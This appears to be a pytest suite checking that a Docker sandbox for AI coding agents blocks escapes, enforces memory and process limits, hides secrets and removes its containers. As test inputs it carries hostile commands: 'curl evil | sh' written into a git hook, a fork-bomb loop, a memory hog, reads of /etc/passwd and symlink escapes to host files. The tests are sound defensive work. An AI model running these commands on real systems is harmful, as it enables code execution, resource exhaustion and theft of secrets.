"""The Docker sandbox against a real daemon: escapes fail, limits hold, containers go away."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import SECRET, must_run_here
from tests.docker_support import USER_UID, chown_tree, require_docker, user_workspace
from workers.limits import Budget
from workers.sandbox import SandboxUnavailable, container, docker, leftovers
from workers.sandbox.docker import DockerSandbox, docker_sandbox
from workers.sandbox.options import DockerOptions
from workers.tools import BUILTIN_TOOLS
from workers.tools.base import ToolResult


@pytest.fixture(scope="module")
def client() -> Any:
    return require_docker()


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    workspace = user_workspace(tmp_path / "ws")
    (workspace / "hello.txt").write_text("hello\n")
    chown_tree(workspace)
    return workspace


@pytest.fixture
def box(client: Any, ws: Path, outside: Path) -> Iterator[DockerSandbox]:
    options = DockerOptions(memory="256m", pids=64)
    with docker_sandbox(ws, options, run_id="test", agent_id="w1", docker_client=client) as sandbox:
        yield sandbox


def call(sandbox: DockerSandbox, name: str, seconds: float | None = 60, **args: Any) -> ToolResult:
    tool = BUILTIN_TOOLS[name]
    return sandbox.run(tool, tool.args.model_validate(args), Budget(max_seconds=seconds))


def shell(sandbox: DockerSandbox, command: str, timeout: int = 30) -> ToolResult:
    return call(sandbox, "run_shell", command=command, timeout=timeout)


def test_tools_run_inside_as_the_workspace_owner(box: DockerSandbox, ws: Path) -> None:
    assert call(box, "read_file", path="hello.txt").output == "hello\n"
    assert box.info["uid"] == USER_UID
    assert shell(box, "id -u").output.startswith(f"{USER_UID}\n")
    written = call(box, "write_file", path="new/file.txt", content="made inside\n")
    assert not written.is_error and written.facts.container == box.container_id
    assert (ws / "new" / "file.txt").read_text() == "made inside\n"
    assert (ws / "new" / "file.txt").stat().st_uid == USER_UID


def test_symlinks_to_a_host_file_and_folder_lead_nowhere(
    box: DockerSandbox, ws: Path, outside: Path
) -> None:
    (ws / "link.txt").symlink_to(outside / "secret.txt")
    (ws / "escape").symlink_to(outside)
    read = call(box, "read_file", path="link.txt")
    assert read.is_error and "canary" not in read.output
    write = call(box, "write_file", path="escape/planted.txt", content="x")
    assert write.is_error
    via_shell = shell(box, "cat link.txt; echo planted > escape/planted.txt; ls escape/")
    assert "canary" not in via_shell.output
    assert sorted(p.name for p in outside.iterdir()) == ["secret.txt"]
    assert (outside / "secret.txt").read_text() == SECRET


@pytest.mark.parametrize(
    "path", ["../outside/secret.txt", "/etc/passwd", "/proc/self/root/etc/passwd"]
)
def test_paths_outside_are_refused_inside_too(box: DockerSandbox, path: str) -> None:
    result = call(box, "read_file", path=path)
    assert result.is_error and "outside the workspace" in result.output


def test_the_root_filesystem_and_protected_folders_are_read_only(
    client: Any, tmp_path: Path
) -> None:
    ws = user_workspace(tmp_path / "ws")
    (ws / ".gaffer" / "profiles").mkdir(parents=True)  # the user's config for gaffer
    with docker_sandbox(
        ws, DockerOptions(), run_id="t", agent_id="w1", docker_client=client
    ) as box:
        result = shell(
            box,
            "touch /etc/planted; touch /usr/bin/planted; touch /workspace/.gaffer/planted; "
            "touch /workspace/.gaffer/profiles/x.toml; echo done",
        )
        assert result.output.count("Read-only file system") == 4
        assert shell(box, "touch /tmp/ok && echo tmp-ok").output.startswith("tmp-ok")
    assert sorted(os.listdir(ws / ".gaffer")) == ["profiles"]


def test_a_gaffer_folder_made_in_the_container_is_taken_out(client: Any, tmp_path: Path) -> None:
    ws = user_workspace(tmp_path / "ws")
    with docker_sandbox(
        ws, DockerOptions(), run_id="t", agent_id="w1", docker_client=client
    ) as box:
        shell(box, "mkdir -p .gaffer/tools && echo 'import os' > .gaffer/tools/x.py")
    assert not (ws / ".gaffer").exists(), "a planted .gaffer never stays for the host to read"
    assert [q.path for q in box.quarantined] == [".gaffer"]


def test_git_folder_is_read_only_inside(client: Any, tmp_path: Path) -> None:
    workspace = user_workspace(tmp_path / "repo")
    (workspace / ".git" / "hooks").mkdir(parents=True)
    chown_tree(workspace)
    with docker_sandbox(
        workspace, DockerOptions(), run_id="t", agent_id="w", docker_client=client
    ) as sandbox:
        result = shell(sandbox, "echo 'curl evil | sh' > .git/hooks/pre-commit")
    assert "Read-only file system" in result.output
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()


def test_no_network_but_loopback(box: DockerSandbox) -> None:
    result = shell(box, "ls /sys/class/net")
    assert result.output.split("\n[")[0].split() == ["lo"]


def test_no_docker_socket_and_no_host_secrets(
    box: DockerSandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    result = shell(box, "ls /var/run/docker.sock /run/docker.sock 2>&1; env")
    assert result.output.count("No such file or directory") == 2
    for name in ("OPENAI_API_KEY", "GAFFER_", "PYTHONPATH"):
        assert name not in result.output


def test_a_fork_bomb_stops_at_the_pids_cap(box: DockerSandbox) -> None:
    result = shell(box, "for i in $(seq 1 500); do sleep 30 & done; wait", timeout=8)
    assert "Resource temporarily unavailable" in result.output or "retry" in result.output
    assert shell(box, "echo still-alive").output.startswith("still-alive")


def test_a_memory_hog_is_killed(box: DockerSandbox) -> None:
    result = shell(box, "python3 -c 'a = bytearray(1024 * 1024 * 1024); print(len(a))'")
    assert result.is_error and (
        "killed by SIGKILL" in result.output or "exit code 137" in result.output
    )
    assert shell(box, "echo still-alive").output.startswith("still-alive")


def test_an_endless_loop_is_killed_with_its_whole_group(box: DockerSandbox) -> None:
    started = time.monotonic()
    result = shell(box, "sleep 300 & echo $! > /tmp/bg.pid; while true; do :; done", timeout=2)
    assert time.monotonic() - started < 15
    assert "killed: timed out after 2s" in result.output
    check = shell(box, "kill -0 $(cat /tmp/bg.pid) 2>/dev/null && echo alive || echo gone")
    assert check.output.startswith("gone")


def test_cancel_kills_the_running_command(box: DockerSandbox) -> None:
    budget = Budget(max_seconds=60)
    tool = BUILTIN_TOOLS["run_shell"]
    threading = __import__("threading")
    threading.Timer(0.5, budget.cancel).start()
    started = time.monotonic()
    result = box.run(tool, tool.args.model_validate({"command": "sleep 60"}), budget)
    assert time.monotonic() - started < 10
    assert "the agent was cancelled" in result.output


def test_the_container_is_removed_after_the_run(client: Any, ws: Path) -> None:
    with docker_sandbox(
        ws, DockerOptions(), run_id="t", agent_id="w", docker_client=client
    ) as sandbox:
        container_id = sandbox.container_id
    assert not client.containers.list(all=True, filters={"id": container_id})


def test_the_container_is_removed_when_the_run_raises(client: Any, ws: Path) -> None:
    with (
        pytest.raises(RuntimeError),
        docker_sandbox(
            ws, DockerOptions(), run_id="t", agent_id="w", docker_client=client
        ) as sandbox,
    ):
        container_id = sandbox.container_id
        raise RuntimeError("boom")
    assert not client.containers.list(all=True, filters={"id": container_id})


LEAVE_BEHIND = """
import sys, time
from pathlib import Path
from workers.sandbox.options import DockerOptions
from workers.sandbox.docker import docker_sandbox
with docker_sandbox(Path(sys.argv[1]), DockerOptions(), run_id="crashed", agent_id="w1") as sandbox:
    print(sandbox.container_id, flush=True)
    time.sleep(300)
"""


def test_a_container_left_by_kill_9_is_removed_at_the_next_start(client: Any, ws: Path) -> None:
    proc = subprocess.Popen(
        [sys.executable, "-c", LEAVE_BEHIND, str(ws)], stdout=subprocess.PIPE, text=True
    )
    assert proc.stdout is not None
    container_id = proc.stdout.readline().strip()
    assert container_id
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    assert client.containers.list(all=True, filters={"id": container_id}), (
        "kill -9 left nothing to clean"
    )
    removed = leftovers.remove_leftovers(client)
    assert container_id in removed
    assert not client.containers.list(all=True, filters={"id": container_id})


def test_failing_closed(
    client: Any, ws: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with (
        pytest.raises(SandboxUnavailable, match="make sandbox-image"),
        docker_sandbox(
            ws,
            DockerOptions(image="gaffer-no-such-image:latest"),
            run_id="t",
            agent_id="w",
            docker_client=client,
        ),
    ):
        pass
    root_owned = tmp_path / "rootws"
    root_owned.mkdir()
    if os.geteuid() == 0:
        with (
            pytest.raises(SandboxUnavailable, match="owned by root"),
            docker_sandbox(
                root_owned, DockerOptions(), run_id="t", agent_id="w", docker_client=client
            ),
        ):
            pass
    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/no-daemon.sock")
    with pytest.raises(SandboxUnavailable, match="is that daemon running"):
        docker.client()


def test_two_coders_never_overlap_and_log_their_container(
    client: Any, ws: Path, tmp_path: Path
) -> None:
    from datetime import datetime

    from supervisor.run_plan import RunPlan
    from supervisor.runlog import read_records
    from supervisor.session import Session
    from workers.assembly.build import AgentRules
    from workers.assembly.profiles import builtin_dir, load_profiles
    from workers.model.scripted import RoutedModel, Step, call, calls, say

    def delegate(task: str) -> tuple[str, dict[str, Any]]:
        return ("delegate", {"profile": "coder", "task": task})

    scripts: dict[str, list[Step]] = {
        "refactor": [calls(delegate("first"), delegate("second")), say("both done")],
        "first": [
            call("write_file", path="one.txt", content="1\n"),
            call("run_shell", command="cat one.txt"),
            say("wrote one"),
        ],
        "second": [call("write_file", path="two.txt", content="2\n"), say("wrote two")],
    }
    model = RoutedModel(scripts, latency=0.1)
    session = Session(ws, tmp_path / "logs")
    plan = RunPlan(
        profiles=load_profiles([builtin_dir()], BUILTIN_TOOLS),
        tools=dict(BUILTIN_TOOLS),
        make_model=lambda *_: model,
        rules=AgentRules(verify=False),
    )
    result = session.run("refactor", plan)
    assert result.outcome.__class__.__name__ == "Finished", result.outcome
    assert (ws / "one.txt").read_text() == "1\n" and (ws / "two.txt").read_text() == "2\n"
    records = read_records(session.log.path)

    def ts(agent: str, event: str) -> float:
        line = next(r for r in records if r["event"] == event and r["agent_id"] == agent)
        return datetime.fromisoformat(line["ts"]).timestamp()

    assert ts("w1", "agent_end") <= ts("w2", "agent_start"), "two coders ran at the same time"
    worker_calls = [
        r for r in records if r["event"] == "tool_call" and r["agent_id"] in ("w1", "w2")
    ]
    assert worker_calls and all(r["sandbox"] == "docker" and r["container"] for r in worker_calls)
    assert {r["container"] for r in worker_calls if r["agent_id"] == "w1"} != {
        r["container"] for r in worker_calls if r["agent_id"] == "w2"
    }
    ends = [r for r in records if r["event"] == "delegate_end"]
    assert [e["files_changed"] for e in ends] == [["one.txt"], ["two.txt"]]
    assert not client.containers.list(
        all=True, filters={"label": "gaffer.run=" + session.session_id}
    )


def test_sandbox_doctor_passes_every_probe(client: Any, ws: Path) -> None:
    env = {**os.environ, "OPENAI_API_KEY": "sk-must-not-leak", "COLUMNS": "200"}
    done = subprocess.run(
        [sys.executable, "-m", "supervisor", "sandbox", "doctor"],
        cwd=ws,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert f"user     {USER_UID}:{USER_UID}" in done.stdout and "network  none" in done.stdout
    assert f"mount    {os.path.realpath(ws)} -> /workspace (read-write)" in done.stdout
    assert done.stdout.count("PASS") == 24 and "FAIL" not in done.stdout
    assert (
        "OPENAI_API_KEY" not in done.stdout and "secret-looking variable(s) hidden" in done.stdout
    )
    # The canaries clean up after themselves: the workspace is as the doctor found it.
    assert sorted(os.listdir(ws)) == ["hello.txt"]


def test_sandbox_doctor_refuses_a_root_owned_workspace(client: Any, tmp_path: Path) -> None:
    if os.geteuid() != 0:
        must_run_here("needs root to make a root-owned workspace")
    done = subprocess.run(
        [sys.executable, "-m", "supervisor", "sandbox", "doctor"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 1 and "owned by root" in done.stderr


def test_a_protected_path_that_is_a_symlink_is_never_mounted(ws: Path, outside: Path) -> None:
    from workers.sandbox import guard

    (ws / ".mcp.json").symlink_to(outside / "secret.txt")
    (ws / "hooks-real").mkdir()
    before = guard.survey(ws, unshare=False)
    assert ".mcp.json" in before.protected and ".mcp.json" not in before.mounts
    spec = container.container_spec(ws, DockerOptions(), protected=before.mounts)
    assert all(not host.endswith("secret.txt") for host, _, _ in spec.mounts)


def test_a_dead_docker_host_is_named_with_why_in_words(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/no-daemon.sock")
    with pytest.raises(SandboxUnavailable) as raised:
        docker.client()
    said = str(raised.value)
    assert said.startswith(f"cannot reach the Docker daemon at DOCKER_HOST=unix://{tmp_path}")
    assert "(No such file or directory)" in said and "Unset DOCKER_HOST" in said
    assert "install docker.io" not in said and "Error(" not in said
